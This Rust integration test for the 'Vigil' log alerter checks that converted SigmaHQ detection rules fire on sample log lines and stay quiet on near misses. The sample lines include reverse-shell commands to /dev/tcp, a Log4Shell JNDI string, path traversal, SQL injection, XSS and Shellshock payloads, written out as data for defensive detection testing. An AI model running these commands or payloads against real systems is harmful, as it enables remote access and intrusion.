//! Public Sigma rules (SigmaHQ, see `fixtures/sigma/README.md`) converted
//! into Vigil rules, loaded as a school would load them (`rules_dir`), and
//! run over real-format log lines read by Vigil's own parsers: each fires
//! on a matching line and stays silent on a near miss. The rules Vigil
//! cannot convert are each reported with the reason.

use chrono::{TimeZone, Utc};
use std::path::Path;
use vigil_alerter::rules::RuleSet;
use vigil_alerter::sigma::Import;
use vigil_core::config::{AlerterConfig, IngestConfig};
use vigil_core::{Event, Label};
use vigil_ingest::parse::{by_name, LineContext};

fn fixtures(set: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sigma").join(set)
}

/// Every `.yml` of the fixture folder `set`, converted.
fn import(set: &str) -> Import {
    let mut files: Vec<_> = std::fs::read_dir(fixtures(set)).unwrap().map(|e| e.unwrap().path()).collect();
    files.sort();
    let mut import = Import::default();
    for file in files {
        let stem = file.file_stem().unwrap().to_string_lossy().into_owned();
        import.add(&stem, &std::fs::read_to_string(&file).unwrap());
    }
    import.finish()
}

/// The event of `line` read as `format`.
fn parse(format: &str, line: &str) -> Event {
    let tenant = Label::from("st-marys".to_string());
    let source = Label::from(format!("{format}-source"));
    let mut parser = by_name(format, &IngestConfig::default()).unwrap();
    let ctx = LineContext {
        tenant: &tenant,
        source: &source,
        line_no: 1,
        offset: 0,
        now: Utc.with_ymd_and_hms(2026, 3, 4, 12, 0, 0).unwrap(),
        read_as: None,
    };
    let mut events = Vec::new();
    parser.parse(line, &ctx, &mut events).unwrap_or_else(|e| panic!("{format}: {e}: {line}"));
    parser.flush_all(&mut events);
    events.pop().unwrap_or_else(|| panic!("{format} made no event of {line}"))
}

/// A proxy request (Squid's combined format) for an absolute `url`.
fn proxy(method: &str, url: &str, agent: &str) -> Line {
    let line = format!(
        r#"10.20.3.41 - - [04/Mar/2026:10:42:00 +0000] "{method} {url} HTTP/1.1" 200 5120 "-" "{agent}" TCP_MISS:HIER_DIRECT"#
    );
    ("combined", line)
}

/// A request to the school's own web server (combined format).
fn web(method: &str, path: &str, status: u16, agent: &str) -> Line {
    let line = format!(
        r#"198.51.100.7 - - [04/Mar/2026:10:42:00 +0000] "{method} {path} HTTP/1.1" {status} 512 "-" "{agent}""#
    );
    ("combined", line)
}

/// A syslog line of `program` on a Linux server, read as `format`.
fn linux(format: &'static str, program: &str, message: &str) -> Line {
    (format, format!("Mar  4 10:00:00 web01 {program}[812]: {message}"))
}

/// A Windows Security event (Winlogbeat's document) with `data`.
fn windows(id: u32, data: &str) -> Line {
    let line = format!(
        r#"{{"@timestamp":"2026-03-04T10:00:00Z","winlog":{{"event_id":{id},"computer_name":"DC01.stmarys.local","event_data":{{{data}}}}}}}"#
    );
    ("windows", line)
}

const ADD_MEMBER: &str = r#""SubjectUserName":"it.admin","SubjectDomainName":"STMARYS","TargetUserName":"Domain Admins","MemberName":"CN=Intruder,CN=Users,DC=stmarys,DC=local""#;

/// A log line and the format it is read as.
type Line = (&'static str, String);

/// (fixture, a line the converted rule fires on, a near miss).
fn cases() -> Vec<(&'static str, Line, Line)> {
    let logon = |ip: &str| {
        format!(
            r#""TargetUserName":"l.evans","TargetDomainName":"STMARYS","Status":"0xc000006d","SubStatus":"0xc000006a","LogonType":"3","IpAddress":"{ip}","IpPort":"50001","WorkstationName":"LIB-PC-07""#
        )
    };
    let created = |user: &str| {
        format!(
            r#""SubjectUserName":"it.admin","SubjectDomainName":"STMARYS","TargetUserName":"{user}","TargetDomainName":"STMARYS""#
        )
    };
    let ua_site = "http://files.example.net/a.zip";
    vec![
        (
            "proxy_downloadcradle_webdav",
            proxy("GET", ua_site, "Microsoft-WebDAV-MiniRedir/10.0.19041"),
            proxy("PROPFIND", ua_site, "Microsoft-WebDAV-MiniRedir/10.0.19041"),
        ),
        (
            "proxy_hello_world_user_agent",
            proxy("GET", ua_site, "Hello-World/1.0"),
            proxy("GET", ua_site, "Hello-World/1.1"),
        ),
        (
            "proxy_hktl_baby_shark_default_agent_url",
            proxy("GET", "http://c2.example.net/momyshark?key=a1b2", "Mozilla/5.0"),
            proxy("GET", "http://c2.example.net/momyshark?id=a1b2", "Mozilla/5.0"),
        ),
        (
            "proxy_pwndrop",
            proxy("GET", "http://drop.example.net/pwndrop/payload.exe", "Mozilla/5.0"),
            proxy("GET", "http://drop.example.net/pwndrops/payload.exe", "Mozilla/5.0"),
        ),
        (
            "proxy_raw_paste_service_access",
            proxy("GET", "http://www.pastebin.com/raw/Xy12Ab", "Mozilla/5.0"),
            proxy("GET", "http://www.pastebin.com/Xy12Ab", "Mozilla/5.0"),
        ),
        (
            "proxy_telegram_api",
            proxy("GET", "https://api.telegram.org/bot123:abc/getUpdates", "python-requests/2.31.0"),
            proxy("GET", "https://api.telegram.org/bot123:abc/getUpdates", "TelegramBot (like TwitterBot)"),
        ),
        (
            "proxy_ua_apt",
            proxy("GET", ua_site, "SJZJ (compatible; MSIE 6.0; Win32)"),
            proxy("GET", ua_site, "SJZJ (compatible; MSIE 7.0; Win32)"),
        ),
        ("proxy_ua_cryptominer", proxy("GET", ua_site, "XMRig 6.21.0"), proxy("GET", ua_site, "XMRig/6.21.0")),
        ("proxy_ua_empty", proxy("GET", ua_site, "-"), proxy("GET", ua_site, "Mozilla/5.0")),
        (
            "proxy_ua_hacktool",
            proxy("GET", ua_site, "Mozilla/4.0 (hydra)"),
            proxy("GET", ua_site, "Mozilla/4.0 (Hydrangea)"),
        ),
        (
            "proxy_ua_powershell",
            proxy("GET", ua_site, "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.1682"),
            proxy("GET", ua_site, "Mozilla/5.0 PowerShell/7.4.1"),
        ),
        ("proxy_ua_rclone", proxy("GET", ua_site, "rclone/v1.65.0"), proxy("GET", ua_site, "rclone-browser/1.8.0")),
        (
            "proxy_ua_susp",
            proxy("GET", ua_site, "Mozila/5.0 (Windows NT 10.0; Win64; x64)"),
            proxy("GET", "http://sync.adobe.com/x", "Mozilla/3.0 (compatible; Adobe Synchronizer 10.12.20000)"),
        ),
        (
            "proxy_ua_bitsadmin_susp_tld",
            proxy("GET", "http://update.example.xyz/a.exe", "Microsoft BITS/7.8"),
            proxy("GET", "http://download.windowsupdate.com/a.cab", "Microsoft BITS/7.8"),
        ),
        (
            "web_jndi_exploit",
            web("GET", "/login?user=${jndi:ldap://203.0.113.9:1389/Basic/Command/Base64/d2hvYW1p}", 200, "curl/8.0"),
            web("GET", "/docs/basic/command-line", 200, "curl/8.0"),
        ),
        (
            "web_path_traversal_exploitation_attempt",
            web("GET", "/download?file=../../../etc/passwd", 200, "curl/8.0"),
            web("GET", "/download?file=../etc/passwd", 200, "curl/8.0"),
        ),
        (
            "web_sql_injection_in_access_logs",
            web("GET", "/item?id=1+and+@@version", 200, "curl/8.0"),
            web("GET", "/item?id=1+and+@@version", 404, "curl/8.0"),
        ),
        (
            "web_susp_useragents",
            web("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            web("GET", "/", 200, "Mozilla/5.0 (Windows NT 10.0)"),
        ),
        (
            "web_xss_in_access_logs",
            web("GET", "/search?q=<script>alert(1)</script>", 200, "Mozilla/5.0"),
            web("POST", "/search?q=<script>alert(1)</script>", 200, "Mozilla/5.0"),
        ),
        (
            "web_source_code_enumeration",
            web("GET", "/.git/config", 404, "Mozilla/5.0"),
            web("GET", "/git/config", 404, "Mozilla/5.0"),
        ),
        (
            "lnx_sshd_susp_ssh",
            linux("sshd", "sshd", "Corrupted MAC on input. [preauth]"),
            linux("sshd", "sshd", "Connection closed by 10.20.0.5 port 52144 [preauth]"),
        ),
        (
            "lnx_shellshock",
            linux("syslog", "bash", "cmd: env x='() { :; }; echo vulnerable' bash -c date"),
            linux("syslog", "bash", "cmd: env x='() { :; }' bash -c date"),
        ),
        (
            "lnx_susp_dev_tcp",
            linux("syslog", "bash", "cmd: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            linux("syslog", "bash", "cmd: cat /dev/null"),
        ),
        (
            "lnx_privileged_user_creation",
            linux("syslog", "useradd", "new user: name=backup, UID=0, GID=0, home=/root, shell=/bin/bash"),
            linux("syslog", "useradd", "new user: name=pupil, UID=1001, GID=1001, home=/home/pupil, shell=/bin/bash"),
        ),
        (
            "lnx_shell_clear_cmd_history",
            linux("syslog", "bash", "cmd: history -c"),
            linux("syslog", "bash", "cmd: history | tail"),
        ),
        (
            "lnx_susp_jexboss",
            linux("syslog", "java", "exec bash -c /bin/bash -i >&/dev/tcp/203.0.113.9/4444 0>&1"),
            linux("syslog", "java", "exec bash -c /bin/bash -l"),
        ),
        (
            "win_security_member_added_security_enabled_global_group",
            windows(4728, ADD_MEMBER),
            windows(4732, ADD_MEMBER),
        ),
        (
            "win_security_susp_failed_logon_source",
            windows(4625, &logon("203.0.113.77")),
            windows(4625, &logon("10.20.1.44")),
        ),
        (
            "win_security_hidden_user_creation",
            windows(4720, &created("svc-backup$")),
            windows(4720, &created("HomeGroupUser$")),
        ),
        ("win_security_user_creation", windows(4720, &created("n.pupil")), windows(4726, &created("n.pupil"))),
        ("win_security_user_logoff", windows(4634, &logon("10.20.1.44")), windows(4624, &logon("10.20.1.44"))),
        ("win_security_workstation_was_locked", windows(4800, &created("l.evans")), windows(4801, &created("l.evans"))),
    ]
}

/// The converted rule ids `event` raises.
fn fired(rules: &mut RuleSet, event: &Event) -> Vec<String> {
    rules.evaluate(event).iter().map(|m| rules.rules()[m.rule].id.clone()).collect()
}

#[test]
fn thirty_two_public_sigma_rules_convert_fire_on_their_lines_and_not_on_near_misses() {
    let import = import("convertible");
    assert!(import.failed.is_empty(), "{:#?}", import.failed);
    assert_eq!(import.converted.len(), 32);
    let dir = tempfile::tempdir().unwrap();
    for converted in &import.converted {
        std::fs::write(dir.path().join(format!("{}.toml", converted.rule.id)), &converted.toml).unwrap();
    }
    let config =
        AlerterConfig { library: false, rules_dir: Some(dir.path().to_path_buf()), ..AlerterConfig::default() };
    let mut rules = RuleSet::from_config(&config).expect("the converted rules load");
    assert_eq!(rules.rules().len(), 32);
    let cases = cases();
    assert_eq!(cases.len(), 32, "one case per fixture");
    for (fixture, (format, line), (near_format, near_miss)) in cases {
        let converted = import.converted.iter().find(|c| c.origin == fixture).unwrap_or_else(|| panic!("{fixture}"));
        let id = &converted.rule.id;
        let event = parse(format, &line);
        assert!(fired(&mut rules, &event).contains(id), "{fixture}: {id} should fire on {line}\n{}", converted.toml);
        let near = parse(near_format, &near_miss);
        assert!(!fired(&mut rules, &near).contains(id), "{fixture}: {id} fired on the near miss {near_miss}");
    }
}

#[test]
fn rules_vigil_cannot_convert_are_each_reported_with_the_reason() {
    let import = import("unconvertible");
    assert!(import.converted.is_empty(), "{:?}", import.converted.iter().map(|c| &c.rule.id).collect::<Vec<_>>());
    let expected = [
        (
            "lnx_cron_crontab_file_modification",
            "log source (product linux, service cron, category -) is not one Vigil reads",
        ),
        ("net_dns_mal_cobaltstrike", "category dns) is not one Vigil reads"),
        ("proxy_download_susp_tlds_blacklist", "the field c-uri-extension has no Vigil event field"),
        ("proxy_hktl_cobalt_strike_malleable_c2_requests", "the field cs-cookie has no Vigil event field"),
        ("web_apache_segfault", "service apache"),
        ("web_iis_tilt_shortname_scan", "only |contains can be converted"),
        ("win_security_admin_rdp_login", "has no Vigil event field"),
        ("win_security_cobaltstrike_service_installs", "the field ServiceFileName has no Vigil event field"),
        ("win_security_petitpotam_susp_tgt_request", "must fix its event ids"),
    ];
    let reported: Vec<(String, String)> =
        import.failed.iter().map(|f| (f.origin.clone(), f.reason.to_string())).collect();
    assert_eq!(reported.len(), expected.len(), "{reported:#?}");
    for ((origin, reason), (fixture, why)) in reported.iter().zip(expected) {
        assert_eq!(origin, fixture);
        assert!(reason.contains(why), "{fixture}: {reason}");
    }
}
